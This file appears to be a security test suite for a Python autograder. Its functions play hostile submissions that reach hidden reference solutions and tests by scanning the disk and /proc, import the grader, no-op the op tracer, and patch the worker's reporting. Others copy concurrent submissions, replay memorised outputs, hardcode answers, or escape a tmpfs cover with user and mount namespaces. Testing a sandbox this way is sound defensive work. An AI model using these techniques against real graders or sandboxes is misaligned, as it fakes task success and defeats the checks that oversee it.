"""Reaching the answers: the reference solutions, the hidden suites, the grader's own
modules, another submission being graded, outputs memorised from a local run.
Each function falls back to ``raise NotImplementedError`` (an honest stub) when its
route is closed, so any point it scores came through the route."""
# ruff: noqa: F821
import base64
import os
import shutil
import subprocess
import sys

from tests.hostile import ROOT, attack

# Every directory a student might guess holds the project (grader/, solutions/).
ROOTS = '''
import os as _os
import sys as _sys


def _hostile_roots():
    seen, out = set(), []

    def add(path):
        path = _os.path.abspath(path)
        while path not in seen and path != "/":
            seen.add(path)
            out.append(path)
            path = _os.path.dirname(path)
    for module in list(_sys.modules.values()):
        path = getattr(module, "__file__", None) or ""
        if path and "site-packages" not in path and "/lib/python" not in path:
            add(_os.path.dirname(path))
    for path in list(_sys.path) + [_os.getcwd(), _os.path.expanduser("~")]:
        if path and "site-packages" not in path and "/lib/python" not in path:
            add(path)
    for value in _os.environ.values():
        if value.startswith("/"):
            add(value)
    for guess in ("/work/main", "/work", "/srv/grader", "/app", "/autograder", "/grader",
                  "/root", "/home"):
        add(guess)
    return out


def _hostile_exec(path, text, name):
    namespace = {"__name__": "borrowed", "__file__": path}
    exec(compile(text, path, "exec"), namespace)
    return namespace[name]
'''


@attack("ex07_conv", "conv2d_unfold", prelude=ROOTS)
def import_solutions(x, weight, bias=None, stride=1, padding=0):
    """import solutions.ex07_conv after putting every guessed project root (parents of the grader's modules, cwd, $PWD, /work/main ...) on sys.path."""
    import importlib
    for root in _hostile_roots():
        if not _os.path.isfile(_os.path.join(root, "solutions", "ex07_conv.py")):
            continue
        _sys.path.insert(0, root)
        try:
            solution = importlib.import_module("solutions.ex07_conv")
        except ImportError:
            continue
        finally:
            _sys.path.remove(root)
        return solution.conv2d_unfold(x, weight, bias, stride, padding)
    raise NotImplementedError("no solutions/ reachable")


FIND = ROOTS + '''
import time as _time

_SKIP = {"/proc", "/sys", "/dev", "/tmp", "/usr", "/lib", "/lib32", "/lib64", "/bin", "/sbin",
         "/etc", "/var", "/run", "/boot", "/snap", "/opt/conda/pkgs"}


def _hostile_find(relpath, marker, budget=4.0):
    """(path, text) of a file ``relpath`` holding ``marker``: under every guessed root, then
    anywhere within four levels of / (system directories and /tmp left out)."""
    deadline = _time.monotonic() + budget

    def read(path):
        try:
            with open(path, errors="replace") as f:
                text = f.read()
        except OSError:
            return None
        return text if marker in text else None
    for root in _hostile_roots():
        text = read(_os.path.join(root, relpath))
        if text:
            return _os.path.join(root, relpath), text
    for top, dirs, _ in _os.walk("/"):
        if _time.monotonic() > deadline:
            break
        dirs[:] = [d for d in dirs if _os.path.join(top, d) not in _SKIP and not d.startswith(".")
                   and top.count("/") < 4]
        text = read(_os.path.join(top, relpath))
        if text:
            return _os.path.join(top, relpath), text
    return None, None


_HOSTILE_PATH, _HOSTILE_TEXT = _hostile_find(_os.path.join("solutions", "ex04_activations.py"),
                                             "BEGIN SOLUTION")
_HOSTILE_SUITE = _hostile_find(_os.path.join("grader", "suites", "test_ex04_activations.py"),
                               "def test_", budget=1.0)[0]
'''


@attack("ex04_activations", "relu_backward", prelude=FIND)
def read_solution_file(grad_out, x):
    """Searches the disk (guessed roots, then / four levels deep) for solutions/ex04_activations.py and the hidden suite, and execs the reference."""
    if _HOSTILE_TEXT is None:
        raise NotImplementedError(f"no solution found (suite: {_HOSTILE_SUITE})")
    return _hostile_exec(_HOSTILE_PATH, _HOSTILE_TEXT, "relu_backward")(grad_out, x)


@attack("ex08_knn", "knn_predict", prelude=ROOTS)
def proc_cwd(X_train, y_train, X_test, k, num_classes=None):
    """Reads solutions/ex08_knn.py through /proc/<pid>/cwd and /proc/<pid>/root of every visible process (the grader's cwd is the project)."""
    for pid in sorted(p for p in _os.listdir("/proc") if p.isdigit()):
        bases = [f"/proc/{pid}/cwd"] + [f"/proc/{pid}/root{root}" for root in _hostile_roots()]
        for base in bases:
            path = _os.path.join(base, "solutions", "ex08_knn.py")
            try:
                with open(path) as f:
                    text = f.read()
            except OSError:
                continue
            if "BEGIN SOLUTION" in text:
                return _hostile_exec(path, text, "knn_predict")(X_train, y_train, X_test, k,
                                                                num_classes)
    raise NotImplementedError("no solutions/ reachable through /proc")


@attack("ex01_tensors", "topk_accuracy", prelude=ROOTS)
def environ(logits, labels, k):
    """Takes project roots from os.environ and every /proc/<pid>/environ (PWD, OLDPWD, HOME ...) and reads solutions/ from there."""
    candidates = list(_hostile_roots())
    for pid in (p for p in _os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                entries = f.read().split(b"\0")
        except OSError:
            continue
        for entry in entries:
            value = entry.partition(b"=")[2].decode(errors="replace")
            if value.startswith("/"):
                candidates.append(value)
    for root in candidates:
        path = _os.path.join(root, "solutions", "ex01_tensors.py")
        try:
            with open(path) as f:
                text = f.read()
        except OSError:
            continue
        return _hostile_exec(path, text, "topk_accuracy")(logits, labels, k)
    raise NotImplementedError("no solutions/ found from the environment")


@attack("ex02_gradient_descent", "gradient_descent", prelude=ROOTS)
def import_grader(f, x0, lr, steps):
    """import grader (trying every guessed root on sys.path) and borrow the reference from the solutions/ beside it."""
    import importlib
    for root in [None] + _hostile_roots():
        if root:
            _sys.path.insert(0, root)
        try:
            grader = importlib.import_module("grader")
            path = _os.path.join(_os.path.dirname(_os.path.dirname(_os.path.abspath(
                grader.__file__))), "solutions", "ex02_gradient_descent.py")
            with open(path) as source:
                return _hostile_exec(path, source.read(), "gradient_descent")(f, x0, lr, steps)
        except (ImportError, OSError, TypeError):
            continue
        finally:
            if root:
                _sys.path.remove(root)
    raise NotImplementedError("the grader package is not importable")


MLP_BY_AUTOGRAD = '''
def _hostile_by_autograd(X, y, params):
    """mlp_loss_and_grads by autograd and F.cross_entropy, both banned there."""
    import torch.nn.functional as F
    leaves = {name: p.detach().clone().requires_grad_() for name, p in params.items()}
    h = (X @ leaves["W1"] + leaves["b1"]).clamp_min(0)
    loss = F.cross_entropy(h @ leaves["W2"] + leaves["b2"], y)
    loss.backward()
    return loss.detach(), {name: p.grad for name, p in leaves.items()}
'''


@attack("ex06_mlp", "mlp_loss_and_grads", prelude=MLP_BY_AUTOGRAD + '''
import sys as _sys
try:
    import tracer as _tracer      # the worker imported it by this name
except ImportError:
    _tracer = _sys.modules.get("tracer")
if _tracer is not None and hasattr(_tracer, "Trace"):
    _tracer.Trace.record = lambda self, bare, display: None
''')
def tracer_module(X, y, params):
    """import tracer (the worker's own module, still in sys.modules), make Trace.record a no-op, then autograd and F.cross_entropy."""
    return _hostile_by_autograd(X, y, params)


@attack("ex06_mlp", "mlp_loss_and_grads", prelude=MLP_BY_AUTOGRAD + '''
_hostile_globals = getattr(torch.autograd.backward, "__globals__", {})
if "Trace" in _hostile_globals:     # the tracer's module, from a function it installed
    _hostile_globals["Trace"].record = lambda self, bare, display: None
''')
def tracer_globals(X, y, params):
    """The tracer's module reached through torch.autograd.backward.__globals__ at import, Trace.record made a no-op, then autograd and F.cross_entropy."""
    return _hostile_by_autograd(X, y, params)


@attack("ex03_linear_regression", "squared_loss", prelude='''
import sys as _sys
_Worker = getattr(_sys.modules.get("__main__"), "Worker", None)
if _Worker is not None and hasattr(_Worker, "_call"):
    _hostile_call = _Worker._call

    def _scrubbed_call(self, message):
        reply = _hostile_call(self, message)
        if isinstance(reply, dict) and "ops" in reply:
            reply["ops"] = {}
        return reply
    _Worker._call = _scrubbed_call
''')
def worker_internals(y_hat, y):
    """Patches the worker's own Worker._call (sys.modules['__main__']) to send an empty op list, then F.mse_loss."""
    import torch.nn.functional as F
    return F.mse_loss(y_hat, y.reshape(y_hat.shape), reduction="none") / 2


class _OtherSession:
    """Another submission (here: the reference) being graded at the same time."""

    def __init__(self, scratch):
        self.session = None

    def __enter__(self):
        from grader.engine.session import Session
        self.session = Session(ROOT / "solutions")
        return self

    def __exit__(self, *exc):
        self.session.close()


@attack("ex08_knn", "pairwise_distances", context=_OtherSession, prelude='''
import glob as _glob
import os as _os
import re as _re

_HOSTILE_OWN = _os.path.dirname(_os.path.abspath(__file__))


def _hostile_borrow(name):
    """``name`` from another submission's copy in a concurrent grading session's directory."""
    for path in sorted(_glob.glob("/tmp/*/submission/*.py")):
        if _os.path.dirname(path) == _HOSTILE_OWN:
            continue
        try:
            with open(path) as f:
                text = f.read()
        except OSError:
            continue
        found = _re.search(rf"^def {name}\\(.*?# END SOLUTION\\n", text, _re.S | _re.M)
        if found:
            namespace = {"torch": torch}
            exec(found.group(0), namespace)
            return namespace[name]
    return None
''')
def other_session(X, Y):
    """Copies pairwise_distances out of another submission being graded at the same time (/tmp/grader-*/submission/*.py)."""
    borrowed = _hostile_borrow("pairwise_distances")
    if borrowed is None:
        raise NotImplementedError("no other submission found")
    return borrowed(X, Y)


# -- replaying outputs memorised from a local run ----------------------------------
REPLAY_KEY = '''
import hashlib as _hashlib


def _hostile_key(x, weight, bias, stride, padding):
    """A fingerprint of one call's inputs, computed without any forbidden op."""
    parts = (str(x.dtype), x.tolist(), weight.tolist(),
             None if bias is None else bias.tolist(), stride, padding)
    return _hashlib.sha256(repr(parts).encode()).hexdigest()
'''

REHEARSAL = REPLAY_KEY + '''
_hostile_reference = conv2d_loops


def conv2d_loops(x, weight, bias=None, stride=1, padding=0):
    import os
    out = _hostile_reference(x, weight, bias, stride, padding)
    path = os.path.join("__SCRATCH__", "table.pt")
    table = torch.load(path) if os.path.exists(path) else {}
    table[_hostile_key(x, weight, bias, stride, padding)] = out.detach().clone()
    torch.save(table, path)
    return out
'''


def _rehearse(scratch):
    """The student's local `make grade`, which records every input and output of
    conv2d_loops under the default seed; the table goes into the submission. A
    student grades as themself, not root, so their worker is not sandboxed: as root
    here, the rehearsal runs in a user namespace where the grader's euid is not 0."""
    from tests.hostile import fill
    directory = scratch / "rehearsal"
    shutil.copytree(ROOT / "solutions", directory)
    with open(directory / "ex07_conv.py", "a") as f:
        f.write(fill(REHEARSAL, {"__SCRATCH__": str(scratch)}))
    as_student = ["unshare", "--user"] if os.geteuid() == 0 else []
    subprocess.run([*as_student, sys.executable, "-m", "grader", str(directory),
                    "--only", "ex07_conv.conv2d_loops", "--json", str(scratch / "local.json"),
                    "--quiet"], cwd=ROOT, check=True, capture_output=True, timeout=300)
    table = (scratch / "table.pt").read_bytes()
    shutil.rmtree(directory)
    return {"__TABLE__": base64.b64encode(table).decode()}


@attack("ex07_conv", "conv2d_loops", setup=_rehearse, prelude=REPLAY_KEY + '''
import base64 as _base64
import io as _io

_HOSTILE_TABLE = torch.load(_io.BytesIO(_base64.b64decode("__TABLE__")))
''')
def replay(x, weight, bias=None, stride=1, padding=0):
    """Outputs memorised from a local run under the default seed, looked up by a fingerprint of the inputs."""
    key = _hostile_key(x, weight, bias, stride, padding)
    if key not in _HOSTILE_TABLE:
        raise NotImplementedError("these inputs were not memorised")
    return _HOSTILE_TABLE[key].clone()


@attack("ex02_gradient_descent", "himmelblau", prelude=ROOTS)
def unmount_cover(x):
    """In a forked child: a new user + mount namespace (all capabilities there), then umount or bind-mount around the tmpfs over the project, and read solutions/."""
    import ctypes
    import pickle
    covers = [r for r in _hostile_roots() if _os.path.ismount(r) and r != "/"]
    read_end, write_end = _os.pipe()
    pid = _os.fork()
    if pid == 0:
        found, log = None, []
        try:
            libc = ctypes.CDLL(None, use_errno=True)
            uid, gid = _os.geteuid(), _os.getegid()
            rc = libc.unshare(0x10000000 | 0x20000)           # CLONE_NEWUSER | CLONE_NEWNS
            log.append(f"covers {covers} unshare {rc} errno {ctypes.get_errno()}")
            if rc == 0:
                for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"),
                                   ("gid_map", f"0 {gid} 1")):
                    try:
                        with open(f"/proc/self/{name}", "w") as f:
                            f.write(text)
                    except OSError:
                        pass
                # any directory serves as a mount point in this private namespace
                peek = next(d for d in ("/mnt", "/srv", "/opt", "/tmp") if _os.path.isdir(d))
                for cover in covers:
                    rc = libc.umount2(cover.encode(), 2)                  # MNT_DETACH
                    log.append(f"umount {cover} {rc} errno {ctypes.get_errno()}")
                    rc = libc.mount(_os.path.dirname(cover).encode(), peek.encode(), None,
                                    4096, None)                           # MS_BIND
                    log.append(f"bind {_os.path.dirname(cover)} {rc} errno {ctypes.get_errno()}")
                    for path in (_os.path.join(cover, "solutions", "ex02_gradient_descent.py"),
                                 _os.path.join(peek, _os.path.basename(cover), "solutions",
                                               "ex02_gradient_descent.py")):
                        try:
                            with open(path) as f:
                                found = (path, f.read())
                            break
                        except OSError:
                            pass
                    libc.umount2(peek.encode(), 2)
                    if found:
                        break
        finally:
            with _os.fdopen(write_end, "wb") as pipe:
                pipe.write(pickle.dumps(found or log))
            _os._exit(0)
    _os.close(write_end)
    with _os.fdopen(read_end, "rb") as pipe:
        found = pickle.loads(pipe.read() or pickle.dumps(None))
    _os.waitpid(pid, 0)
    if not isinstance(found, tuple):
        raise RuntimeError(f"the cover held: {found}")
    return _hostile_exec(found[0], found[1], "himmelblau")(x)


def _clone_elsewhere(scratch):
    """A second copy of the project elsewhere on the machine (CI's clone beside the
    developer's, an instructor's checkout beside the grading one)."""
    shutil.copytree(ROOT / "solutions", scratch / "clone" / "solutions")
    return {}


@attack("ex03_linear_regression", "normal_equation", setup=_clone_elsewhere)
def clone_elsewhere(X, y):
    """Reads the reference from another copy of the project on the same machine (not the grader's own directory, which is hidden)."""
    import os
    path = "__SCRATCH__/clone/solutions/ex03_linear_regression.py"
    if not os.path.isfile(path):
        raise NotImplementedError("no other copy found")
    namespace = {"__name__": "borrowed"}
    exec(compile(open(path).read(), path, "exec"), namespace)
    return namespace["normal_equation"](X, y)


@attack("ex02_gradient_descent", "find_minima")
def hardcode_find_minima(starts, lr=1e-2, steps=20000):
    """No descent at all: every start 'converges' to the textbook minimum (3, 2)."""
    return torch.tensor([3.0, 2.0], dtype=starts.dtype, device=starts.device).expand_as(starts).clone()
